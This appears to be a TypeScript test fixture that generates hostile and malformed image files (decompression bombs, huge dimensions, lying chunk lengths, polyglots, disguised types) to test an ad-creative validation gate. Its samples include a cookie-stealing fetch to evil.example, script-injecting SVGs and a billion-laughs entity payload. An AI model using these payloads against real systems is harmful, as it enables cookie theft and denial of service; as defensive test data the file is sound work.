import { deflateRawSync, deflateSync } from 'node:zlib';
import { seededRandom } from '../bench/seededRandom.js';

/** What a bad host sends instead of a creative. */
export interface HostileCreative {
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly contentType: string;
  /** What the answer claims to weigh; undefined for an answer that does not say. */
  readonly contentLength?: number;
  /** Nothing of it may be decoded. The others are broken files a decoder may make something of, within the limits. */
  readonly mustBeRefused: boolean;
}

const ascii = (text: string): Buffer => Buffer.from(text, 'latin1');
const be32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};
const be16 = (value: number): Buffer => be32(value).subarray(2);
const le16 = (value: number): Buffer => Buffer.from(be16(value)).reverse();

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let bit = 0; bit < 8; bit++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = CRC_TABLE[(crc ^ byte) & 255]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

function chunk(type: string, content: Uint8Array): Buffer {
  const body = Buffer.concat([ascii(type), content]);
  return Buffer.concat([be32(content.length), body, be32(crc32(body))]);
}

const PNG_SIGNATURE = ascii('\x89PNG\r\n\x1a\n');
const header = (width: number, height: number, depth = 8, colour = 6): Buffer =>
  chunk('IHDR', Buffer.concat([be32(width), be32(height), Buffer.from([depth, colour, 0, 0, 0])]));
const END = chunk('IEND', Buffer.alloc(0));
const pngOf = (...chunks: Uint8Array[]): Buffer => Buffer.concat([PNG_SIGNATURE, ...chunks, END]);

/** A whole PNG of an opaque grey. */
export function wholePng(width: number, height: number): Buffer {
  const row = Buffer.alloc(1 + 4 * width);
  row.fill(Buffer.from([0x7f, 0x7f, 0x7f, 0xff]), 1);
  return pngOf(header(width, height), chunk('IDAT', deflateSync(Buffer.concat(Array<Buffer>(height).fill(row)))));
}

/** A zlib stream of so many zeros, a thousandth as long. */
function zlibOfZeros(mebibytes: number): Buffer {
  // Flushed to a byte's edge and without a look back, so that the same block can stand any number of times.
  const block = deflateRawSync(Buffer.alloc(1_048_576), { level: 9, finishFlush: 3 });
  const adler = be32((((mebibytes * 1_048_576) % 65_521) << 16) | 1);
  return Buffer.concat([
    Buffer.from([0x78, 0xda]),
    ...Array<Buffer>(mebibytes).fill(block),
    Buffer.from([3, 0]),
    adler,
  ]);
}

/** A GIF of one picture per place; each a clear code and the end, which a decoder fills with the first colour. */
export function gifOf(
  width: number,
  height: number,
  pictures: readonly (readonly [x: number, y: number, width: number, height: number])[],
): Buffer {
  const frames = pictures.map((place) =>
    Buffer.concat([
      Buffer.from([0x21, 0xf9, 4, 0, 1, 0, 0, 0, 0x2c]),
      ...place.map(le16),
      Buffer.from([0, 2, 2, 0x44, 0x01, 0]),
    ]),
  );
  const colours = Buffer.from([255, 0, 0, 0, 255, 0]);
  return Buffer.concat([ascii('GIF89a'), le16(width), le16(height), Buffer.from([0x80, 0, 0]), colours, ...frames, ascii(';')]); // prettier-ignore
}

/** 12 × 8 px. */
const JPEG = Buffer.from(
  '/9j/2wBDABsSFBcUERsXFhceHBsgKEIrKCUlKFE6PTBCYFVlZF9VXVtqeJmBanGQc1tdhbWGkJ6jq62rZ4C8ybqmx5moq6T/2wBDARweHigjKE4r' +
    'K06kbl1upKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKT/wAARCAAIAAwDASIAAhEBAxEB/8QAFgABAQEA' +
    'AAAAAAAAAAAAAAAAAAMF/8QAFxABAQEBAAAAAAAAAAAAAAAAAAIBIf/EABUBAQEAAAAAAAAAAAAAAAAAAAQF/8QAGBEAAgMAAAAAAAAAAAAAAAAAAA' +
    'ECBBH/2gAMAwEAAhEDEQA/AMq6S2ugp1YLBNib0//Z',
  'base64',
);
/** 1 × 1 px. */
const WEBP = Buffer.from('UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA', 'base64');
const WEBP_LOSSLESS = Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64');
/** 2 × 2 px, as libavif writes it. */
const AVIF = Buffer.from(
  'AAAAIGZ0eXBhdmlmAAAAAGF2aWZtaWYxbWlhZk1BMUIAAADybWV0YQAAAAAAAAAoaGRscgAAAAAAAAAAcGljdAAAAAAAAAAAAAAAAGxpYmF2aWYAAAAA' +
    'DnBpdG0AAAAAAAEAAAAeaWxvYwAAAABEAAABAAEAAAABAAABGgAAAB0AAAAoaWluZgAAAAAAAQAAABppbmZlAgAAAAABAABhdjAxQ29sb3IAAAAAamlw' +
    'cnAAAABLaXBjbwAAABRpc3BlAAAAAAAAAAIAAAACAAAAEHBpeGkAAAAAAwgICAAAAAxhdjFDgQ0MAAAAABNjb2xybmNseAACAAIAAYAAAAAXaXBtYQAA' +
    'AAAAAAABAAEEAQKDBAAAACVtZGF0EgAKCBgANogQEAwgMg8f8D///8WfhwB8+ErK42A=',
  'base64',
);

/** Whole, harmless files of every type, to show that the gate lets those through. */
export const wholeCreatives: readonly { readonly contentType: string; readonly bytes: Uint8Array }[] = [
  { contentType: 'image/png', bytes: wholePng(20, 10) },
  { contentType: 'image/gif', bytes: gifOf(1, 1, [[0, 0, 1, 1]]) },
  { contentType: 'image/jpeg', bytes: JPEG },
  { contentType: 'image/webp', bytes: WEBP },
  { contentType: 'image/webp', bytes: WEBP_LOSSLESS },
  { contentType: 'image/avif', bytes: AVIF },
];

/** The AVIF's AV1 data asks for another size than its boxes tell: 2^n px a side of the sequence header. */
function lyingAvif(bits: number): Buffer {
  // reduced_still_picture_header with frame_width_bits and frame_height_bits at their largest.
  const text =
    '000' + '11' + '00000' + (bits - 1).toString(2).padStart(4, '0').repeat(2) + '1'.repeat(2 * bits) + '0'.repeat(24);
  const sequence = Buffer.from(text.match(/.{8}/g)!.map((byte) => parseInt(byte, 2)));
  const data = Buffer.concat([Buffer.from([0x12, 0, 0x0a, sequence.length]), sequence, AVIF.subarray(-17)]);
  const file = Buffer.concat([AVIF.subarray(0, 0x11a), data]);
  file.writeUInt32BE(8 + data.length, 0x112);
  return file;
}

function box(type: string, ...content: Uint8Array[]): Buffer {
  const body = Buffer.concat(content);
  return Buffer.concat([be32(8 + body.length), ascii(type), body]);
}

/** A JPEG of the given size whose data is `scans` empty scans. */
function jpegOfScans(width: number, height: number, scans: number): Buffer {
  const frame = JPEG.indexOf(Buffer.from([0xff, 0xc0]));
  const scan = JPEG.indexOf(Buffer.from([0xff, 0xda]));
  const head = Buffer.from(JPEG.subarray(0, scan));
  head[frame + 1] = 0xc2;
  head.writeUInt16BE(height, frame + 5);
  head.writeUInt16BE(width, frame + 7);
  const one = Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 0, 0, 0]);
  return Buffer.concat([head, ...Array<Buffer>(scans).fill(one), Buffer.from([0xff, 0xd9])]);
}

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="250">';
const ENTITIES = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

const DISGUISES = ['image/png', 'image/jpeg', 'image/webp', 'image/avif', 'image/gif', 'application/octet-stream', ''];

/** Files of other kinds, by their first bytes. */
const OTHER_KINDS: readonly (readonly [name: string, bytes: Uint8Array])[] = [
  ['HTML', ascii('<!doctype html><title>Sign in</title><script>alert(1)</script>')],
  ['JSON', ascii('{"error":"not found","status":404}')],
  ['JavaScript', ascii('fetch("https://evil.example/?c="+document.cookie)')],
  ['ZIP', ascii('PK\x03\x04\x14\x00\x00\x00\x08\x00')],
  ['PDF', ascii('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')],
  ['WebAssembly', ascii('\0asm\x01\0\0\0\0\0\0\0')],
  ['an executable', ascii('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff')],
  ['MP3', ascii('ID3\x04\0\0\0\0\0\0TIT2')],
  ['WAV', ascii('RIFF\x24\0\0\0WAVEfmt ')],
  ['ICO', ascii('\0\0\x01\0\x01\0\xff\xff\0\0\x01\0')],
  ['BMP', ascii('BM\xff\xff\xff\x7f\0\0\0\0\x36\0\0\0')],
  ['TIFF', ascii('II*\0\x08\0\0\0\xff\xff\xff\xff')],
  ['PSD', ascii('8BPS\0\x01\0\0\0\0\0\0\0\x03')],
  ['HEIC', ascii('\0\0\0\x18ftypheic\0\0\0\0mif1heic')],
  ['JPEG XL', ascii('\0\0\0\x0cJXL \x0d\x0a\x87\x0a\0\0')],
  ['SVG with a script', ascii(`${SVG}<script>alert(1)</script></svg>`)],
  ['SVG that loads from elsewhere', ascii(`${SVG}<image href="https://evil.example/track.png"/></svg>`)],
  ['SVG of a billion laughs', ascii(`<!DOCTYPE s [<!ENTITY l0 "ha">${ENTITIES}]>${SVG}<text>&l9;</text></svg>`)],
  ['SVG of a million pixels a side', ascii('<svg xmlns="http://www.w3.org/2000/svg" width="1e6" height="1e6"/>')],
  ['an AVIF sequence', Buffer.concat([box('ftyp', ascii('avis\0\0\0\0avisavif')), box('moov')])],
];

export interface HostileOptions {
  readonly seed: number;
  /** How far the bombs inflate, in MiB. */
  readonly bombMebibytes: number;
}

/** More than 300 files that should not have been sent, the same for the same seed. */
export function hostileCreatives({ seed, bombMebibytes }: HostileOptions): HostileCreative[] {
  const random = seededRandom(seed);
  const integer = (min: number, max: number): number => min + Math.floor(random() * (max - min + 1));
  const noise = (length: number): Buffer => Buffer.from(Array.from({ length }, () => integer(0, 255)));
  const files: HostileCreative[] = [];
  const add = (name: string, contentType: string, bytes: Uint8Array, mustBeRefused: boolean, contentLength?: number) =>
    files.push({ name, contentType, bytes, mustBeRefused, ...(contentLength === undefined ? {} : { contentLength }) });

  // Bombs: small on the wire, huge when decoded.
  const bomb = zlibOfZeros(bombMebibytes);
  add(`a PNG of ${bombMebibytes} MiB of pixels`, 'image/png', pngOf(header(16_384, (bombMebibytes * 1_048_576) >> 16), chunk('IDAT', bomb)), true); // prettier-ignore
  add('a PNG of 1 bit a pixel', 'image/png', pngOf(header(65_536, 65_536, 1, 0), chunk('IDAT', bomb)), true);
  add('a small PNG with data for a huge one', 'image/png', pngOf(header(64, 64), chunk('IDAT', bomb)), false);
  for (const type of ['zTXt', 'iTXt', 'iCCP', 'eXIf']) {
    const content = Buffer.concat([ascii(type === 'iTXt' ? 'note\0\x01\0\0\0' : 'note\0\0'), bomb]);
    const rest = wholePng(8, 8).subarray(33);
    add(`a PNG with a bomb in ${type}`, 'image/png', Buffer.concat([PNG_SIGNATURE, header(8, 8), chunk(type, content), rest]), false); // prettier-ignore
  }
  for (const scans of [101, 10_000, 90_000]) {
    add(`a JPEG of ${scans} scans`, 'image/jpeg', jpegOfScans(4_000, 2_000, scans), true);
  }
  // Bytes that make whoever looks through them stop at each.
  for (const [kind, filling] of [
    ['the first byte of a marker', [0xff]],
    ['the second byte of a marker', [0xda]],
    ['empty comments', [0xff, 0xfe, 0, 2]],
  ] as const) {
    const scan = JPEG.indexOf(Buffer.from([0xff, 0xda]));
    const filled = Buffer.alloc(1_040_000, Buffer.from(filling));
    add(`a JPEG full of ${kind}`, 'image/jpeg', Buffer.concat([JPEG, filled]), false);
    add(`a JPEG that begins with ${kind}`, 'image/jpeg', Buffer.concat([JPEG.subarray(0, 2), filled, JPEG.subarray(2, scan)]), true); // prettier-ignore
  }
  for (let bits = 13; bits <= 16; bits++)
    add(`an AVIF with ${2 ** bits} px a side in its data`, 'image/avif', lyingAvif(bits), true);
  for (let i = 0; i < 24; i++) {
    const [width, height] = i % 2 ? [integer(4_097, 65_535), integer(1, 65_535)] : [integer(1, 64), integer(4_097, 65_535)]; // prettier-ignore
    add(`a PNG of ${width} × ${height}`, 'image/png', pngOf(header(width, height), chunk('IDAT', noise(64))), true);
    add(`a JPEG of ${width} × ${height}`, 'image/jpeg', jpegOfScans(width, height, 1), true);
    add(`a GIF of ${width} × ${height}`, 'image/gif', gifOf(width, height, [[0, 0, 1, 1]]), true);
    add(
      `a GIF of 1 × 1 with a picture of ${width} × ${height}`,
      'image/gif',
      gifOf(1, 1, [[0, 0, width, height]]),
      true,
    );
  }
  for (const [width, height] of [
    [4_294_967_295, 1],
    [2_147_483_648, 2_147_483_648],
    [0, 5],
    [5, 0],
  ] as const)
    // prettier-ignore
    add(`a PNG of ${width} × ${height}`, 'image/png', pngOf(header(width, height), chunk('IDAT', noise(8))), true);
  add('a GIF of 30,000 pictures', 'image/gif', gifOf(4, 4, Array.from({ length: 30_000 }, () => [0, 0, 4, 4] as const)), false); // prettier-ignore
  const later = gifOf(4, 4, [[0, 0, 4, 4], [60_000, 60_000, 5_000, 5_000]]); // prettier-ignore
  add('a GIF whose second picture is huge', 'image/gif', later, false);
  const control = Buffer.concat([be32(0), be32(60_000), be32(60_000), be32(0), be32(0), Buffer.alloc(6)]);
  for (const frames of [1, 2_147_483_647, 4_294_967_295]) {
    const animation = chunk('acTL', Buffer.concat([be32(frames), be32(0)]));
    const rest = wholePng(8, 8).subarray(33);
    add(`an APNG of ${frames} huge frames`, 'image/png', Buffer.concat([PNG_SIGNATURE, header(8, 8), animation, ...Array<Buffer>(200).fill(chunk('fcTL', control)), rest]), false); // prettier-ignore
  }

  // Weight: more bytes than any creative may have, whatever the answer says.
  for (let i = 0; i < 12; i++) {
    const { contentType, bytes } = wholeCreatives[i % wholeCreatives.length]!;
    const heavy = Buffer.concat([bytes, Buffer.alloc(integer(1_048_577, 3_000_000), integer(0, 255))]);
    add('more than 1 MiB, said', contentType, heavy, true, heavy.length);
    add('more than 1 MiB, not said', contentType, heavy, true);
  }

  // Kinds: no image, or no image a creative may be, under every name.
  for (const [name, bytes] of OTHER_KINDS) {
    for (const contentType of DISGUISES) add(`${name} as "${contentType}"`, contentType, bytes, true);
  }
  add('SVG as itself', 'image/svg+xml', ascii(`${SVG}</svg>`), true);
  // Its bytes decide, whatever its host calls it.
  add('a PNG as text', 'text/html', wholePng(8, 8), false);
  for (let length = 0; length < 12; length++)
    add(`${length} bytes`, 'image/png', wholePng(8, 8).subarray(0, length), true);

  // Polyglots: an image to one reader, something else to another. Only the image in them is ever used.
  add('a GIF that is JavaScript', 'image/gif', ascii('GIF89a=1;/*\0\0\0\0*/alert(1)'), true);
  for (const [kind, bytes] of OTHER_KINDS.slice(0, 6)) {
    for (const whole of wholeCreatives)
      add(`an image followed by ${kind}`, whole.contentType, Buffer.concat([whole.bytes, bytes]), false);
    add(`${kind} followed by an image`, 'image/png', Buffer.concat([bytes, wholePng(8, 8)]), true);
  }

  // Structure: chunks, boxes and blocks that lie about themselves.
  const png = wholePng(16, 16);
  for (const length of [0xffffffff, 0x7fffffff, 0x80000000, 0]) {
    const copy = Buffer.from(png);
    copy.writeUInt32BE(length, 33);
    add(`a PNG chunk of length ${length}`, 'image/png', copy, false);
  }
  for (const size of [0, 1, 2, 7, 8, 0x7fffffff, 0xffffffff]) {
    for (const at of [0, 32, 44, 84, 98, 128, 168, 196, 274]) {
      const copy = Buffer.from(AVIF);
      copy.writeUInt32BE(size, at);
      add(`an AVIF with ${size} written at ${at}`, 'image/avif', copy, false);
    }
  }
  let nested: Uint8Array = Buffer.alloc(0);
  for (let depth = 0; depth < 5_000; depth++) nested = box('meta', be32(0), nested);
  add('AVIF boxes 5,000 deep', 'image/avif', Buffer.concat([AVIF.subarray(0, 32), nested]), true);
  add('an AVIF of 100,000 boxes', 'image/avif', Buffer.concat([AVIF.subarray(0, 32), ...Array<Buffer>(100_000).fill(box('free'))]), true); // prettier-ignore
  for (const size of [0, 1, 0x7fffffff, 0xffffffff]) {
    for (const at of [4, 16]) {
      const copy = Buffer.from(WEBP);
      copy.writeUInt32LE(size, at);
      add(`a WebP with ${size} written at ${at}`, 'image/webp', copy, false);
    }
  }

  // Truncation and noise, anywhere.
  const wholes = [...wholeCreatives, { contentType: 'image/png', bytes: wholePng(200, 100) }];
  for (let i = 0; i < 60; i++) {
    const { contentType, bytes } = wholes[i % wholes.length]!;
    add('a truncated image', contentType, bytes.subarray(0, integer(1, bytes.length - 1)), false);
    const noisy = Uint8Array.from(bytes);
    for (let k = integer(1, 12); k > 0; k--) noisy[integer(8, noisy.length - 1)] = integer(0, 255);
    add('an image with noise in it', contentType, noisy, false);
  }
  return files;
}
